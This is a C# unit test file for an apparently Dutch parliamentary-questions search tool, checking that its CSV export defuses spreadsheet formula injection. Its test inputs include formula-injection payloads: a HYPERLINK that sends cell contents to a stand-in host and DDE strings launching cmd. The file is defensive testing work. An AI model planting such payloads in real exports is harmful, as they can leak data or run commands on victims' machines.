using System.Text;
using SearchKamer.Domain;
using SearchKamer.Ingestion;
using SearchKamer.Search;

namespace SearchKamer.Tests.Search;

/// <summary>CSV export cells that a spreadsheet would run as a formula are neutralised (OWASP CSV injection).</summary>
public sealed class CsvExportTests
{
    private static readonly KamervraagDocument Parsed =
        DocumentReader.Read(RepoPaths.CorpusFile("pdf", "00fe7edd-24c8-4857-98da-774ed3b06836.pdf")).Document!;

    [Theory]
    [InlineData("=HYPERLINK(\"https://example.invalid/?\"&A1,\"klik\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void A_cell_that_would_start_a_formula_starts_with_an_apostrophe_and_keeps_its_text(string hostile)
    {
        var first = Parsed.Questions[0];
        var document = Parsed with { Subject = hostile, Questions = [first with { Question = hostile, Answer = hostile }, .. Parsed.Questions.Skip(1)] };

        var rows = Cells(document);

        var row = rows[1];
        foreach (var column in new[] { "subject", "question", "answer" })
        {
            Assert.Equal("'" + hostile, row[Array.IndexOf(rows[0], column)]);
        }

        // Text that merely contains such characters later, and the real document's cells, pass unchanged.
        Assert.Equal(Parsed.Questions[1].Question, rows[2][Array.IndexOf(rows[0], "question")]);
    }

    private static List<string[]> Cells(KamervraagDocument document)
    {
        var text = new StringWriter();
        Export.WriteCsv(Export.Rows([document]), text);
        return Rfc4180.Read(text.ToString());
    }
}
